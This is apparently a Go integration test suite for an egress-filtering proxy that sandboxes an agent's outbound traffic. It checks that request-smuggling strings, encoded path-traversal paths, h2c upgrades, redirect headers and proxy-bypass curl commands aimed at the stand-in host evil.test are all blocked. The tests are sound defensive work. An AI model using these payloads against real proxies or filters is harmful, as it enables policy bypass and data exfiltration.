package integration

import (
	"encoding/json"
	"fmt"
	"net/http"
	"path"
	"strings"
	"testing"

	"outcall/integration/harness"
	"outcall/integration/world"
)

// reached gives each place at which a name's port 80 can be spoken to: its
// addresses, a tunnel, and the proxy, where a target begins with its name.
func reached(t *testing.T, b *harness.Bed, name string) map[string]string {
	return map[string]string{at(b.V4(t, name), 80): "", at(b.V6(t, name), 80): "",
		"tunnel " + name + ":80": "", "10.200.0.1:8080": "http://" + name, "[fd0c:a11::1]:8080": "http://" + name}
}

// H1: each request of a connection is judged, and what names its host in two
// ways, or frames itself in two, is refused and ends the connection.
func TestH1EachRequestIsJudged(t *testing.T) {
	b := harness.New(t)
	const a, e = "shared.allowed.test", "shared.evil.test"
	var list []sent
	var words []*world.Canary
	for to, prefix := range reached(t, b, a) {
		good := "GET " + prefix + "/first HTTP/1.1\r\nHost: " + a + "\r\n\r\n"
		for what, parts := range map[string][]string{
			"another Host":                 {"GET %s/WORD HTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
			"another Host on keep-alive":   {good, "GET %s/WORD HTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
			"another Host pipelined":       {good + "GET %s/WORD HTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
			"another target":               {"GET http://" + e + "/WORD HTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
			"another target on keep-alive": {good, "GET http://" + e + "/WORD HTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
			"target against Host":          {"GET http://" + e + "/WORD HTTP/1.1\r\nHost: " + a + "\r\n\r\n"},
			"Host twice":                   {"GET %s/WORD HTTP/1.1\r\nHost: " + a + "\r\nHost: " + e + "\r\n\r\n"},
			"the same Host twice":          {"GET %s/WORD HTTP/1.1\r\nHost: " + a + "\r\nHost: " + a + "\r\n\r\n"},
			"Host with user":               {"GET %s/WORD HTTP/1.1\r\nHost: x@" + a + "\r\n\r\n"},
			"Host with another port":       {"GET %s/WORD HTTP/1.1\r\nHost: " + a + ":8080\r\n\r\n"},
			"Host with space":              {"GET %s/WORD HTTP/1.1\r\nHost: " + a + " " + e + "\r\n\r\n"},
			"Host with tab":                {"GET %s/WORD HTTP/1.1\r\nHost: " + a + "\t" + e + "\r\n\r\n"},
			"Host with NUL":                {"GET %s/WORD HTTP/1.1\r\nHost: " + a + "\x00\r\n\r\n"},
			"Host with comma":              {"GET %s/WORD HTTP/1.1\r\nHost: " + a + "," + e + "\r\n\r\n"},
			"empty Host":                   {"GET %s/WORD HTTP/1.1\r\nHost:\r\n\r\n"},
			"no Host":                      {"GET /WORD HTTP/1.1\r\n\r\n"},
			"space before colon":           {"GET %s/WORD HTTP/1.1\r\nHost : " + a + "\r\n\r\n"},
			"folded":                       {"GET %s/WORD HTTP/1.1\r\nX: y\r\n Host: " + e + "\r\nHost: " + a + "\r\n\r\n"},
			"bare LF":                      {"GET %s/WORD HTTP/1.1\nHost: " + a + "\n\n"},
			"both framings":                {"POST %s/WORD HTTP/1.1\r\nHost: " + a + "\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
			"two lengths":                  {"POST %s/WORD HTTP/1.1\r\nHost: " + a + "\r\nContent-Length: 0\r\nContent-Length: 3\r\n\r\nabc"},
			"a request as body of GET":     {"GET %s/x HTTP/1.1\r\nHost: " + a + "\r\nContent-Length: 3, 3\r\n\r\nGET /WORD HTTP/1.1\r\n\r\n"},
		} {
			k := b.Canary(t)
			words = append(words, k)
			s := sent{what: what + " to " + to, to: to}
			for _, p := range parts {
				s.parts = append(s.parts, []byte(strings.NewReplacer("%s", prefix, "WORD", k.Word).Replace(p)))
			}
			if strings.HasPrefix(to, "tunnel ") && len(parts) > 1 {
				s.parts = [][]byte{append(s.parts[0], s.parts[1]...)}
			}
			list = append(list, s)
		}
	}
	r, lines := batch(t, b, harness.Allow(a), []string{a}, list)
	for i, l := range lines {
		words[i].MustNotArrive(t)
		answer := l.Data[strings.Index(l.Data, "HTTP/1.1")+1:]
		if !strings.Contains(answer, "TTP/1.1 400 ") && !strings.Contains(answer, "TTP/1.1 403 ") && !strings.Contains(answer, "TTP/1.1 200 OK") {
			t.Errorf("H1: %s: answered %q %s", list[i].what, l.Data, l.Err)
		}
	}
	for _, q := range b.Origins.Requests() {
		if q.Host != a || q.URI != "/first" {
			t.Errorf("H1: arrived: %s %s %s", q.Method, q.Host, q.URI)
		}
	}
	if n := count(b.Denials(t, r.Name, func(e harness.Event) bool { return e.Layer == "request" })); n != len(list) {
		t.Errorf("H1: %d denials of %d attempts", n, len(list))
	}
}

// H3: under an allow by path, a path in disguise gets what its plain form gets,
// and a server sees what was judged.
func TestH3PathsInDisguise(t *testing.T) {
	b := harness.New(t)
	const a = "api.allowed.test"
	rules := b.Rules("h3.yaml", "  - id: resolve\n    condition: 'dns.query == \""+a+"\"'\n    action: allow\n"+
		"  - id: by-path\n    condition: 'network.hostname == \""+a+"\" && http.path.startsWith(\"/repos/myorg/\")'\n    action: allow\n")
	var list []sent
	for to, prefix := range reached(t, b, a) {
		for p, ok := range map[string]bool{
			"/repos/myorg/x": true, "/repos//myorg/./x": true, "/x/../repos/myorg/x": true, "/repos/%6d%79org/x": true, "/repos/myorg/x%2fy;p=1": true,
			"/repos/myorg-evil/x": false, "/repos/myorg": false, "/repos/MYORG/x": false, "/repos/myorg/../evil": false, "/repos/myorg/%2e%2e/evil": false,
			"/repos/myorg/%2E%2e%2fevil": false, "/repos/myorg/x%2f..%2f..%2fevil": false, "/repos/myorg/%252e%252e/evil": false, "/repos/myorg/..;/evil": false,
			"/repos/myorg/..%5cevil": false, "/repos/myorg/..\\evil": false, "/repos/myorg%00/x": false, "/repos/myorg/%c0%ae%c0%ae/evil": false, "/repos/myorg/x#/../../evil": false,
			"/repos;x/myorg/x": false, "//evil/repos/myorg/x": false,
		} {
			list = append(list, sent{p + " to " + to, to, [][]byte{[]byte("GET " + prefix + p + " HTTP/1.1\r\nHost: " + a + "\r\n\r\n")}, ok})
		}
	}
	r, lines := batch(t, b, []string{"-q", "--rules", rules}, []string{a}, list)
	passed := 0
	for i, s := range list {
		if got := strings.Contains(lines[i].Data, "HTTP/1.1 200 OK"); got != s.ok {
			t.Errorf("H3: %s passes: %v: %q %s", s.what, got, lines[i].Data, lines[i].Err)
		}
		if s.ok {
			passed++
		}
	}
	seen := b.Origins.Requests()
	for _, q := range seen {
		if !strings.HasPrefix(q.URI, "/repos/myorg/x") || path.Clean(q.URI) != q.URI {
			t.Errorf("H3: arrived: %s", q.URI)
		}
	}
	if len(seen) != passed {
		t.Errorf("H3: %d requests arrived, not %d", len(seen), passed)
	}
	if n := count(b.Denials(t, r.Name, nil)); n != len(list)-passed {
		t.Errorf("H3: %d denials of %d attempts", n, len(list)-passed)
	}
}

// H5: a WebSocket is opened by a judged request; what goes through it is
// counted. Any other upgrade does not happen.
func TestH5Upgrades(t *testing.T) {
	b := harness.New(t)
	const a = "api.allowed.test"
	rules := b.Rules("h5.yaml", "  - id: no-ws\n    priority: 1\n    condition: 'http.path == \"/no/ws\"'\n    action: block\n"+allowRule(a))
	k := b.Canary(t)
	upgrade := func(p, to string) []byte {
		return []byte("GET " + p + " HTTP/1.1\r\nHost: " + a + "\r\nConnection: Upgrade\r\nUpgrade: " + to + "\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n" +
			"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: http://" + a + "\r\n\r\n")
	}
	frames := "\x81\x85\x00\x00\x00\x00hello"
	var list []sent
	for to, prefix := range reached(t, b, a) {
		list = append(list,
			sent{"denied path to " + to, to, [][]byte{append(upgrade(prefix+"/no/ws", "websocket"), k.Word...)}, false},
			sent{"h2c to " + to, to, [][]byte{upgrade(prefix+"/x", "h2c")}, false},
			sent{"another protocol to " + to, to, [][]byte{upgrade(prefix+"/x", "x")}, false},
			sent{"two protocols to " + to, to, [][]byte{upgrade(prefix+"/x", "websocket, h2c")}, false})
		if !strings.HasPrefix(to, "tunnel ") {
			list = append(list, sent{"WebSocket to " + to, to, [][]byte{append(upgrade(prefix+"/ws", "websocket"), frames...)}, true})
		}
	}
	_, lines := batch(t, b, []string{"-q", "--rules", rules}, []string{a}, list)
	for i, s := range list {
		if got := strings.Contains(lines[i].Data, "HTTP/1.1 101 "); got != s.ok {
			t.Errorf("H5: %s is switched: %v: %q %s", s.what, got, lines[i].Data, lines[i].Err)
		}
		if strings.HasPrefix(s.what, "denied") && !strings.Contains(lines[i].Data, "X-Outcall-Block-Reason: no-ws") {
			t.Errorf("H5: %s: %q", s.what, lines[i].Data)
		}
	}
	k.MustNotArrive(t)
	r := b.Sandbox([]string{"-q", "--rules", rules, "--no-proxy"}, harness.Probe, "ws", "ws://"+a+"/ws", "0s")
	if l := r.Lines(t); len(l) != 1 || l[0].Data != "still here" {
		t.Errorf("H5: %+v", r)
	}
	counted := false
	for _, e := range b.Events(t, r.Name) {
		counted = counted || e.Event == "end" && e.BytesOut > int64(len("still here")) && e.BytesIn > int64(len("still here"))
	}
	if !counted {
		t.Error("H5: the frames are not counted")
	}
}

// H6: proxies that the agent names, our own listener as a target, and none.
func TestH6ProxiesOfItsOwn(t *testing.T) {
	b := harness.New(t)
	const a = "api.allowed.test"
	k := b.Canary(t)
	evil := b.V4(t, "evil.test")
	var script strings.Builder
	for _, proxy := range []string{"http://evil.test:8080", "http://" + at(evil, 8080), "http://" + at(b.V6(t, "evil.test"), 8080),
		"socks5h://" + at(evil, 8080), "http://127.0.0.1:8080", "http://10.200.0.1:53"} {
		fmt.Fprintf(&script, "curl -sS -m 10 -x %[1]s http://%[2]s.evil.test/%[2]s; curl -sS -m 10 -x %[1]s https://%[3]s/%[2]s\n", proxy, k.Word, a)
	}
	for _, env := range []string{"NO_PROXY=* no_proxy=*", "HTTP_PROXY= HTTPS_PROXY= ALL_PROXY= http_proxy= https_proxy= all_proxy=",
		"http_proxy=http://evil.test:8080 https_proxy=http://evil.test:8080"} {
		fmt.Fprintf(&script, "env %s curl -sS -m 10 https://evil.test/%s; env %[1]s curl -sS -m 10 http://evil.test/%[2]s\n", env, k.Word)
	}
	for _, line := range []string{"CONNECT 10.200.0.1:8080", "CONNECT [fd0c:a11::1]:8080", "CONNECT 127.0.0.1:8080", "GET http://10.200.0.1:8080/",
		"GET http://10.200.0.1:8080/" + k.Word, "CONNECT evil.test:443", "GET http://evil.test/" + k.Word} {
		fmt.Fprintf(&script, "%s connect 10.200.0.1:8080 '%s HTTP/1.1'\n", harness.Probe, line)
	}
	script.WriteString("echo passed:\nfor p in '*' ''; do curl -sS -m 20 --noproxy \"$p\" https://" + a + "/; curl -sS -m 20 --noproxy \"$p\" http://" + a + "/; done\n" +
		"curl -sS -m 20 -i http://10.200.0.1:8080/outcall-health; curl -sS -m 20 -g -i --noproxy '*' 'http://[fd0c:a11::1]:8080/outcall-health'\n")
	m := b.Mark()
	r := b.Sandbox(harness.Allow(a), "sh", "-c", script.String())
	before, after, _ := strings.Cut(r.Stdout, "passed:\n")
	mustLack(t, "H6: what the attempts got", before, "origin ", `"data":"200`)
	if n := strings.Count(after, "origin "+a); n != 4 {
		t.Errorf("H6: %d of 4 allowed requests passed: %s %s", n, after, r.Stderr)
	}
	if n := strings.Count(after, `{"status":"ok"}`); n != 2 || strings.Count(after, "Content-Type: application/json") != 2 {
		t.Errorf("H6: health: %s", after)
	}
	k.MustNotArrive(t)
	for _, f := range b.Since(t, m) {
		if f.Dst.Addr() == evil || f.Dst.Addr() == b.V6(t, "evil.test") {
			t.Errorf("H6: this got out: %s", f)
		}
	}
	for _, match := range []func(harness.Event) bool{
		func(e harness.Event) bool { return e.Layer == "flow" && e.IP == evil.String() && e.Port == 8080 },
		func(e harness.Event) bool { return e.Layer == "dns" && e.Query == "evil.test" },
		func(e harness.Event) bool { return e.Layer == "connect" && e.IP == "10.200.0.1" && e.Structural },
		func(e harness.Event) bool { return e.Layer == "connect" && e.Host == "evil.test" },
		func(e harness.Event) bool { return e.Layer == "request" && e.Host == "evil.test" },
	} {
		b.SomeDenial(t, r.Name, match)
	}
}

// H10: what an answer asks a client to do is judged as anything that it does.
func TestH10AnswersThatSendElsewhere(t *testing.T) {
	b := harness.New(t)
	const a = "api.allowed.test"
	k := b.Canary(t)
	b.Origins.Handle("/h10/", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Alt-Svc", `http/1.1="evil.test:443"; ma=3600, h2="evil.test:443"; ma=3600, h3=":443"; ma=3600`)
		w.Header().Set("Strict-Transport-Security", "max-age=3600; includeSubDomains")
		w.Header().Set("Link", "<https://evil.test/"+k.Word+">; rel=preconnect")
		w.Header().Set("Refresh", "0; url=http://evil.test/"+k.Word)
		w.Header().Set("Location", "http://evil.test/"+k.Word)
		w.WriteHeader(http.StatusFound)
	}))
	// The cache is curl's: the second request goes where the first answer sent it.
	curl := "curl -sS -m 10 --alt-svc /tmp/alt --hsts /tmp/hsts --noproxy '*' "
	r := b.Sandbox(append(harness.Allow(a), "--no-proxy"), "sh", "-c", curl+"-o /dev/null https://"+a+"/h10/ && grep -q evil.test /tmp/alt && echo learnt\n"+
		curl+"https://"+a+"/"+k.Word+"\n"+curl+"-L https://"+a+"/h10/\n"+curl+"-L http://"+a+"/h10/\n"+
		harness.Probe+" udp "+k.Word+" "+at(b.V4(t, a), 443)+" "+at(b.V6(t, a), 443))
	mustContain(t, "H10: the cache", r.Stdout, "learnt")
	for _, q := range b.Origins.Requests() {
		if q.Host != a || q.SNI != a && q.SNI != "" {
			t.Errorf("H10: arrived: %+v", q)
		}
	}
	for _, h := range b.Origins.Hellos() {
		if h.SNI != a {
			t.Errorf("H10: a hello for %s", h.SNI)
		}
	}
	if b.DNS.Asked("evil.test") {
		t.Error("H10: a question for the name that the answer gave")
	}
	b.SomeDenial(t, r.Name, func(e harness.Event) bool { return e.Layer == "dns" && e.Query == "evil.test" })
}

// H11: what a tolerant server takes for a request is judged as one or refused,
// also where a rule opens the port for any protocol; what nobody would take for
// one works.
func TestH11TolerantServers(t *testing.T) {
	b := harness.New(t)
	const a = "api.allowed.test"
	rules := b.Rules("h11.yaml", "  - id: no-admin\n    priority: 1\n    condition: 'http.path == \"/admin\" || http.path.startsWith(\"/admin/\")'\n    action: block\n"+allowRule(a))
	host := "Host: " + a + "\r\n"
	var list []sent
	var words []*world.Canary
	for _, port := range []uint16{80, b.Ports.Echo} {
		for _, to := range []string{at(b.V4(t, a), port), at(b.V6(t, a), port), fmt.Sprintf("tunnel %s:%d", a, port)} {
			for _, q := range []string{
				"GET /admin/WORD\r\n", "GET /admin/WORD\n", "GET /admin/WORD", "\r\nGET /admin/WORD HTTP/1.1\r\n" + host + "\r\n", "\n\n GET /admin/WORD HTTP/1.1\r\n" + host + "\r\n",
				"GET /admin/WORD HTTP/1.1\n" + host + "\n", "get /admin/WORD HTTP/1.1\r\n" + host + "\r\n", "GET\t/admin/WORD\tHTTP/1.1\r\n" + host + "\r\n",
				"GET /admin/WORD http/1.1\r\n" + host + "\r\n", "GET /admin/WORD HTTP/1.10\r\n" + host + "\r\n", "FROB /admin/WORD HTTP/1.1\r\n" + host + "\r\n",
				"GET\x0b/admin/WORD HTTP/1.1\r\n" + host + "\r\n", "GET /admin/WORD HTTP/1.1 \r\n" + host + "\r\n", "\x00X /admin/WORD HTTP/1.1\r\n" + host + "\r\n",
				"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nWORD", "G", "GET /admin/WORD HTTP/1.1\r\n" + host,
			} {
				k := b.Canary(t)
				words = append(words, k)
				list = append(list, sent{q, to, [][]byte{[]byte(strings.ReplaceAll(q, "WORD", k.Word))}, false})
			}
		}
	}
	r, _ := batch(t, b, []string{"-q", "--rules", rules}, []string{a}, list)
	for i, k := range words {
		if k.Arrived() {
			t.Errorf("H11: %q to %s arrived", list[i].what, list[i].to)
		}
	}
	if q := b.Origins.Requests(); len(q) != 0 {
		t.Errorf("H11: arrived: %+v", q)
	}
	if n := count(b.Denials(t, r.Name, func(e harness.Event) bool { return e.Layer == "request" || e.Layer == "raw" })); n < len(list)*9/10 {
		t.Errorf("H11: %d denials of %d attempts", n, len(list))
	}
	var raw []sent
	for _, w := range []string{"SSH-2.0-x y\r\n", "EHLO h\r\n", "get k\r\n", "*1\r\n$4\r\nPING\r\n", "CONNECT {\"a\":1}\r\n"} {
		for _, to := range []string{at(b.V4(t, a), b.Ports.Echo), at(b.V6(t, a), b.Ports.Echo)} {
			raw = append(raw, sent{w, to, [][]byte{[]byte(w)}, true})
		}
	}
	_, lines := batch(t, b, []string{"-q", "--rules", rules}, []string{a}, raw)
	for i, l := range lines {
		if l.Data != raw[i].what {
			t.Errorf("H11: raw %q: %+v", raw[i].what, l)
		}
	}
}

// K13: the canonical forms of an allowed target, and only those, lead there.
func TestK13CanonicalTargets(t *testing.T) {
	b := harness.New(t)
	const a = "api.allowed.test"
	script := ""
	targets := []string{a + ":443", "API.Allowed.Test:443", a + ".:443"}
	for _, target := range targets {
		script += harness.Probe + " connect 10.200.0.1:8080 'CONNECT " + target + " HTTP/1.1'\n"
	}
	script += "curl -sS -g -m 20 http://" + strings.ToUpper(a) + "./x; curl -sS -m 20 http://" + a + ":80/y\n"
	r := b.Sandbox(harness.Allow(a), "sh", "-c", script)
	for i, l := range r.Lines(t) {
		if !strings.HasPrefix(l.Data, "200") {
			t.Errorf("K13: %s: %+v", targets[i], l)
		}
	}
	if n := strings.Count(r.Stdout, "origin "+a); n != 2 {
		t.Errorf("K13: %d of 2: %s %s", n, r.Stdout, r.Stderr)
	}
	for _, e := range b.Events(t, r.Name) {
		if e.Event == "verdict" && e.Host != "" && e.Host != a {
			j, _ := json.Marshal(e)
			t.Errorf("K13: the audit has another form: %s", j)
		}
	}
}
